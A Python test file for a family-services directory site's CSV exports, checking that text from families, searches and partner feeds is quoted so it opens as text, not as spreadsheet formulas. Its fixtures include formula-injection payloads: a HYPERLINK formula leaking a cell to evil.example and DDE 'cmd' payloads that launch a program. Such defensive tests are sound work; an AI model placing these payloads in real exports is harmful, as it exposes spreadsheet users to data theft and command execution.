"""Every CSV the site writes opens in a spreadsheet as text: words a family typed (a self-referral,
a search) or a partner's feed brought in can never run as a formula on the desk's or the
insight team's computer. The services spreadsheet still reads back exactly what it wrote."""

import csv
import io

import pytest

from core.csv_safety import guard, unguard
from directory.models import ServicePage, UnmetSearch
from directory.spreadsheet import check_sheet, export_csv, read_sheet
from referrals.models import Referral
from tests.factories import member_of
from tests.referrals.journey import fill_in, state_of

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TEXT_AS_IT_WAS = [
    *FORMULAS,
    "'=already quoted by an editor",
    "''+44 1902 555555",
    "'Closed in August",
    "- Bring a towel",
    "+44 1902 555555",
    "",
    "Plain words",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_written_as_text(text):
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXT_AS_IT_WAS)
def test_reading_back_gives_exactly_what_was_written(text):
    assert unguard(guard(text)) == text


def test_plain_text_and_numbers_are_left_alone():
    assert guard("Zofia Kowalska-Łęcka") == "Zofia Kowalska-Łęcka"
    assert guard(None) == "" and guard(3) == "3" and guard(-3) == "'-3"


def exported_cells(response):
    body = response.streaming_content if getattr(response, "streaming", False) else [response.content]
    text = b"".join(body).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.django_db
def test_the_desks_referral_export_keeps_families_words_as_text(client, demo_site):
    client.post("/refer/check/", {"state": state_of(fill_in(client))})
    client.logout()
    referral = Referral.objects.get()
    referral.full_name = FORMULAS[0]
    referral.situation = FORMULAS[1]
    referral.help_wanted = FORMULAS[2]
    referral.professionals = FORMULAS[3]
    referral.access_needs = FORMULAS[4]
    referral.address = FORMULAS[5]
    referral.save()
    client.force_login(member_of("Early help desk", "desk"))
    response = client.post("/admin/self-referrals/export/", {"reference": [referral.reference], "format": "csv"})
    assert response.status_code == 200
    cells = exported_cells(response)
    for formula in FORMULAS:
        assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any("Amir" in cell for cell in cells) and referral.postcode in cells  # ordinary answers as they were
    # An international number is kept as text too, rather than read as a sum by a spreadsheet.
    assert referral.phone.startswith("+") and f"'{referral.phone}" in cells


@pytest.mark.django_db
def test_the_unmet_searches_download_keeps_searches_as_text(client, demo_site):
    for formula in FORMULAS:
        UnmetSearch.objects.create(query=formula[:80], language="en")
    client.force_login(member_of("Insight officers", "insight"))
    response = client.get("/admin/unmet_searches/", {"export": "csv"})
    assert response.status_code == 200
    cells = exported_cells(response)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{FORMULAS[0][:80]}" in cells


@pytest.mark.django_db
def test_the_services_spreadsheet_round_trips_text_that_looks_like_formulas(demo_site):
    service = ServicePage.objects.get(slug="family-mediation")
    service.summary = "- For parents who are separating"
    service.alert = "'=already quoted by an editor"
    service.eligibility = "@home visits for parents in the city"
    service.save_revision().publish()
    cells = exported_cells(type("Download", (), {"content": export_csv()})())
    assert "'- For parents who are separating" in cells
    assert "''=already quoted by an editor" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    report = check_sheet(read_sheet(export_csv()))
    assert {row.outcome for row in report.rows} == {"unchanged"}
